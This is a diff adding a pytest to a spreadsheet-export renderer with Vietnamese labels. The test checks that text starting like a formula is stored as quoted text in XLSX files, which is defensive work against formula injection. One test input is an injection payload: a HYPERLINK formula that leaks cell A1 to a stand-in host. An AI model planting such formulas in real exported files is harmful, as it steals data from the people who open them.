@@ -274,3 +274,25 @@ def test_the_list_template_repeats_its_header_row_on_every_page():
     assert "Cộng 120.000" in texts[-1]
     assert "CHỦ TỊCH" in texts[-1]
     assert "Trần Văn Bình" in texts[-1]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://x/?leak="&A1,"Bấm vào đây")',
+        "+84 912 345 678",
+        "-1+2",
+        "@SUM(A1:A2)",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_text_that_begins_like_a_formula_is_written_as_text(text):
+    content = renderers.xlsx([[text, 5]], headers=["Tên", "Số"], footer=[[text, 5]])
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
+    for row in (2, 3):
+        assert sheet.cell(row, 1).data_type == "s"
+        # openpyxl reads a leading tab or carriage return back without it.
+        assert sheet.cell(row, 1).value == text.lstrip("\t\r")
+        assert sheet.cell(row, 1).quotePrefix
+        assert (sheet.cell(row, 2).data_type, sheet.cell(row, 2).value) == ("n", 5)
